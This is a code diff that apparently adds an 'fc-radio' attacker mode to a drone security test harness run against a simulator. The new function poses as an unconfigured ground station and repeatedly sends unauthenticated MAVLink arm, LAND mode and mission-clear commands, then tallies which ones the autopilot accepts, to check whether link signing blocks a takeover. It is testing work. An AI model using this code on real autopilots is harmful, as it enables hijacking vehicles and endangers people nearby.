@@ -89,6 +89,12 @@ few every 10 ms until the restarted drone answers one, then each one not yet ans
 (newest first; those A sends meanwhile too), for ``--duration``. A replay must spend none of
 A's pairing tokens: the owner re-pairs at once and the drone never goes into its failsafe.
 
+``fc-radio``: no credentials at all, only a radio on the autopilot's second MAVLink port (TELEM2,
+``--fc-port``: the simulator's ``--telem2`` endpoint). It sends HEARTBEATs as a GCS, learns the
+autopilot from its telemetry, and when told to attack sends COMMAND_LONG arm, a mode change to LAND
+and MISSION_CLEAR_ALL once a second, and counts the answers. With the flight controller's link
+signed none may be obeyed (no answer at all); without signing the autopilot obeys it: the takeover.
+
 Modes that take ``--wait-go`` set up, print ``ready``, and attack when they receive SIGUSR2 (the
 launcher sends it at the scenario's moment). All modes stop at SIGTERM or after ``--duration``.
 
@@ -137,8 +143,10 @@ log = logging.getLogger(__name__)
 
 MODES = ("no-key", "unauthorized", "key-injection", "linkkey-knockout", "pair-replay", "pair-flood",
          "uplink-sealed", "uplink-unsealed", "gateway-flood", "big-flood", "junk-flood", "no-cert", "insider-heir",
-         "key-escrow", "stale-pairing")
+         "key-escrow", "stale-pairing", "fc-radio")
 ROGUE_COMPID = 190
+#: The fc-radio attacker's MAVLink system id (a GCS nobody configured).
+FC_RADIO_SYSID = 250
 #: How long a ``--wait-go`` attacker waits for its signal before giving up.
 GO_TIMEOUT = 600.0
 
@@ -157,6 +165,7 @@ class Ctx:
     wait_go: bool
     replies: int = 1  # key-injection: forged replies of each kind per query
     recorded: int = 8  # stale-pairing: message 1s of A recorded in earlier flights
+    fc_port: int | None = None  # fc-radio: the autopilot's TELEM2 UDP port
     stop: threading.Event = field(default_factory=threading.Event)
     go: threading.Event = field(default_factory=threading.Event)
     _fleet: Fleet | None = None
@@ -993,13 +1002,79 @@ def stale_pairing(c: Ctx) -> None:
         qable.undeclare()
         s_a.close()
         s_cap.close()
+def fc_radio(c: Ctx) -> None:
+    """The attacker on the autopilot's TELEM2 (see the module's docstring)."""
+    from ..vehicle.modes import set_mode_params
+    from ..vehicle.transport import MavTransport
+
+    if c.fc_port is None:
+        raise ConfigError("--fc-port is required for fc-radio")
+    radio = MavTransport(f"udpout:127.0.0.1:{c.fc_port}")
+    codec = FrameCodec(FC_RADIO_SYSID, ROGUE_COMPID)
+    sent: Counter[str] = Counter()
+    answers: Counter[str] = Counter()
+    seen: Counter[str] = Counter()
+    autopilot: list[int] = []
+    names = {mav.MAV_CMD_COMPONENT_ARM_DISARM: "arm", mav.MAV_CMD_DO_SET_MODE: "mode_land"}
+
+    def listen(seconds: float) -> None:
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            for frame, _ in radio.poll(min(0.05, max(0.0, end - time.monotonic()))):
+                seen["signed" if frame[0] == 0xFD and frame[2] & 1 else "unsigned"] += 1
+                msg = codec.decode(frame)
+                if msg is None:
+                    continue
+                t = msg.get_type()
+                if t == "HEARTBEAT" and msg.autopilot != mav.MAV_AUTOPILOT_INVALID and not autopilot:
+                    autopilot.append(msg.autopilot)
+                elif t == "COMMAND_ACK" and msg.target_system == FC_RADIO_SYSID and msg.command in names:
+                    answers[f"{names[msg.command]}:{'accepted' if msg.result == 0 else 'refused'}"] += 1
+                elif t == "MISSION_ACK" and msg.target_system == FC_RADIO_SYSID:
+                    answers[f"mission_clear:{'accepted' if msg.type == 0 else 'refused'}"] += 1
+
+    def heartbeat() -> None:
+        radio.send(codec.encode(_heartbeat()))
+
+    try:
+        heartbeat()
+        c.ready()
+        if not c.wait_for_go():
+            return
+        going = c.attack_window()
+        heartbeat()
+        listen(1.5)  # the autopilot's telemetry says which one it is (its mode numbers)
+        while going():
+            heartbeat()
+            if answers["mode_land:accepted"]:  # taken over: the vehicle lands where the attacker said
+                listen(1.0)
+                continue
+            ap = "ardupilot" if autopilot and autopilot[0] == mav.MAV_AUTOPILOT_ARDUPILOTMEGA else "px4"
+            land = set_mode_params(ap, "LAND") or (1.0, 4.0, 6.0)
+            nan = float("nan")
+            for label, msg in (
+                ("arm", mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_COMPONENT_ARM_DISARM, 0, 1, 0, 0, 0, 0, 0, 0)),
+                ("mode_land", mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_DO_SET_MODE, 0, *land, nan, nan, nan, nan)),
+                ("mission_clear", mav.MAVLink_mission_clear_all_message(1, 1, 0)),
+            ):
+                radio.send(codec.encode(msg))
+                sent[label] += 1
+            listen(1.0)
+        listen(0.5)
+        obeyed = sum(n for k, n in answers.items() if k.endswith(":accepted"))
+        c.events.write("attack_done", sent=dict(sent), answers=dict(answers), obeyed=obeyed,
+                       answered=sum(answers.values()), telemetry=dict(seen),
+                       autopilot=autopilot[0] if autopilot else None)
+    finally:
+        radio.close()
+
 
 ATTACKS: dict[str, Callable[[Ctx], None]] = {
     "no-key": no_key, "unauthorized": unauthorized, "key-injection": key_injection,
     "linkkey-knockout": linkkey_knockout, "pair-replay": pair_replay, "pair-flood": pair_flood,
     "uplink-sealed": uplink_sealed, "uplink-unsealed": uplink_unsealed, "gateway-flood": gateway_flood,
     "big-flood": big_flood, "junk-flood": junk_flood, "no-cert": no_cert, "insider-heir": insider_heir,
-    "key-escrow": key_escrow, "stale-pairing": stale_pairing,
+    "key-escrow": key_escrow, "stale-pairing": stale_pairing, "fc-radio": fc_radio,
 }
 assert set(ATTACKS) == set(MODES)
 
@@ -1017,6 +1092,7 @@ def main(argv: list[str] | None = None) -> int:
     p.add_argument("--replies", type=int, default=1, help="key-injection: forged replies of each kind per query (1)")
     p.add_argument("--recorded", type=int, default=8,
                    help="stale-pairing: message 1s of A recorded in earlier flights (8)")
+    p.add_argument("--fc-port", type=int, help="UDP port of the autopilot's TELEM2 (fc-radio)")
     p.add_argument("--events")
     args = p.parse_args(argv)
     logging.basicConfig(level=logging.WARNING, format="%(asctime)s %(name)s %(levelname)s %(message)s")
@@ -1025,7 +1101,7 @@ def main(argv: list[str] | None = None) -> int:
         return 2
     events = EventLog(args.events, f"rogue-{args.mode}")
     ctx = Ctx(args.fleet, args.router, args.drone, events, args.duration, args.rate, args.gcs_port, args.wait_go,
-              max(1, args.replies), max(0, args.recorded))
+              max(1, args.replies), max(0, args.recorded), fc_port=args.fc_port)
     signal.signal(signal.SIGTERM, lambda *_: ctx.stop.set())
     signal.signal(signal.SIGUSR2, lambda *_: ctx.go.set())
     try:
